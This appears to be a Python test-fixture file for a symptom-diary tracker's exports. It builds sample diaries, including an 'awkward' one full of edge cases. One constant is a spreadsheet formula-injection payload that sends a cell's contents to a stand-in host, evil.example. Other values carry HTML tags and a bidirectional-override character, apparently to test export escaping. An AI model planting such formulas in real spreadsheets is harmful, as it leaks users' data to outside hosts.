"""Diaries ready to be written into files: the demo's, and one in which everything is awkward."""

from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Final

import pytest

from tracker.cli import main
from tracker.cli.opening import opened
from tracker.cli.user import found
from tracker.domain.answers import DECLINED, NO_RECALL, NOT_APPLICABLE, Answer, answered
from tracker.domain.archives import OPERATOR
from tracker.domain.diary import Diary, Entry, Status
from tracker.domain.dossiers import Dossier, pseudonym
from tracker.domain.happenings import NOTHING, Happenings
from tracker.domain.phases import Phase, PhaseKind
from tracker.domain.questionnaire import (
    CORE,
    DOSE_TAKEN,
    PAIN,
    PGIC,
    TOLERABILITY,
    Direction,
    Item,
    Ruler,
)
from tracker.domain.report import build_report
from tracker.domain.responder import Rule
from tracker.domain.revisions import Outcome, Revision
from tracker.domain.spans import Span
from tracker.domain.windows import Preset
from tracker.services import exports

BEGIN: Final = date(2026, 1, 1)
DAY: Final = timedelta(days=1)
FORMULA: Final = '=HYPERLINK("https://evil.example/?"&A1,"tap")'
AWKWARD: Final = "<b>&amp; 'ünïcode' 🌙\n+1\t\u202eabc"
OWN: Final = (
    Item("own_qWe-1_x", "=1+1, “itch”", "How <i>much</i>?", "", "-", Direction.LOWER),
    Item("own_second_1", "=1+1, “itch”", "And | how, much?", "none", "all", Direction.NEUTRAL),
)
NOON: Final = datetime(2026, 1, 1, 12, 0, 0, 123456, tzinfo=UTC)


def dossier_of(
    diary: Diary,
    phases: Sequence[Phase] = (),
    *,
    span: Span | None = None,
    notes: bool = True,
    changed: Sequence[Revision] = (),
    happened: Happenings = NOTHING,
) -> Dossier:
    """Give a dossier of a diary that was closed after its last night."""
    until = max(diary.entries, default=BEGIN) + DAY
    return Dossier(
        person=pseudonym("somebody"),
        name="Moth",
        today=until,
        closed_until=until,
        diary=diary,
        asked=CORE,
        phases=phases,
        report=build_report(diary, phases, Rule.YOUNGER2013, Preset.WEEK, until),
        span=span,
        notes=notes,
        changed=changed,
        happened=happened,
    )


def diary_of(*entries: Entry, ruler: Ruler = Ruler.NRS, items: Sequence[Item] = CORE) -> Diary:
    """Give a diary of these nights."""
    return Diary(ruler, {item.key: item for item in items}, {one.day: one for one in entries})


def night(number: int, answers: Mapping[str, Answer], ruler: Ruler = Ruler.NRS) -> Entry:
    """Give one night, so many days after the first."""
    return Entry(BEGIN + number * DAY, answers, ruler)


def checked() -> Dossier:
    """Give a baseline and three weeks of treatment, with what is not asked every night."""
    entries = [
        night(number, {"pain": answered(6 if number <= 14 else 3 + number % 2)})
        for number in range(36)
    ]
    besides = {
        21: {"tolerability": answered(80), "dose_taken": answered(0)},
        28: {"tolerability": answered(90), "dose_taken": answered(1)},
        35: {"pgic": answered(2), "dose_taken": answered(1)},
    }
    for number, answers in besides.items():
        entries[number] = night(number, {**entries[number].answers, **answers})
    phases = [
        Phase(PhaseKind.BASELINE, BEGIN, BEGIN + 14 * DAY),
        Phase(PhaseKind.TREATMENT, BEGIN + 14 * DAY, BEGIN + 36 * DAY),
    ]
    items = (PAIN, DOSE_TAKEN, TOLERABILITY, PGIC)
    return dossier_of(diary_of(*entries, items=items), phases)


def awkward(*, notes: bool = True, span: Span | None = None) -> Dossier:
    """Give every state and kind of answer, both rulers, odd zones, own words, edits by anybody."""
    first, second = OWN
    states = {
        "pain": answered(0),
        "mood": DECLINED,
        "dream_vividness": NO_RECALL,
        "dream_distress": NOT_APPLICABLE,
        "dose_taken": answered(2),
        first.key: answered(10),
    }
    others = {"pain": answered(100), "pgic": answered(1), "tolerability": answered(0)}
    entries = (
        replace(
            night(0, states),
            status=Status.ON_TIME,
            note=FORMULA,
            submitted_at=NOON,
            zone="Asia/Kathmandu",
            revision=4,
        ),
        replace(
            night(1, {"dose_taken": DECLINED, second.key: DECLINED}),
            status=Status.LATE,
            note=AWKWARD,
            entered_by="Robin <b>",
        ),
        replace(
            night(2, others, Ruler.VAS),
            status=Status.BEFORE_TIME,
            submitted_at=NOON,
            zone="Nowhere/At_all",
            sent_later=True,
            entered_by="Wren",
            conflict=True,
            imported=True,
        ),
        replace(night(3, {}), note="'only a note"),
        replace(
            night(4, {"pain": answered(7)}),
            submitted_at=datetime(1, 1, 1, tzinfo=UTC),
            zone="UTC",
        ),
    )
    phases = (
        Phase(PhaseKind.BASELINE, BEGIN, BEGIN + DAY, "=first"),
        Phase(PhaseKind.PLACEBO, BEGIN + DAY, BEGIN + 2 * DAY, "", "sugar <b>"),
        Phase(PhaseKind.BLINDED, BEGIN + 2 * DAY, BEGIN + 3 * DAY, "A"),
        Phase(PhaseKind.TREATMENT, BEGIN + 3 * DAY, None, "@home", "LDN", Decimal("0.125")),
    )
    items = (*CORE, DOSE_TAKEN, PGIC, TOLERABILITY, *OWN)
    return dossier_of(
        diary_of(*entries, items=items),
        phases,
        span=span,
        notes=notes,
        changed=[
            _edit(1),
            replace(_edit(2), reason="thought again", entered_by="a helper"),
            replace(_edit(3), author=OPERATOR),
            replace(_edit(4), outcome=Outcome.MERGED, saved_at=None),
            replace(_edit(5), outcome=Outcome.CONFLICT),
        ],
    )


def _edit(number: int) -> Revision:
    return Revision(
        day=BEGIN,
        number=number,
        client_id=str(number),
        payload_sha256="0" * 64,
        status=Status.ON_TIME,
        questionnaire=1,
        ruler=Ruler.NRS,
        received_at=NOON + number * DAY,
        author="somebody",
        answers={PAIN.key: answered(number)},
        saved_at=NOON,
        zone="Asia/Kathmandu",
    )


def demo(instance: Path, name: str = "demo-running") -> Dossier:
    """Give one of the demo's diaries, with its notes, as it stands on a fixed evening."""
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("TRACKER_INSTANCE", str(instance))
        environment.setenv("TRACKER_CLOCK", "2026-11-21T22:00:00Z")
        environment.setenv("TRACKER_ALLOW_TEST_CLOCK", "1")
        environment.delenv("TRACKER_DATABASE_URL", raising=False)
        main(["demo", "--if-empty"])
        with opened() as diary, diary.database.snapshot() as session:
            return exports.dossier(session, found(diary, name), diary.settings.clock(), notes=True)
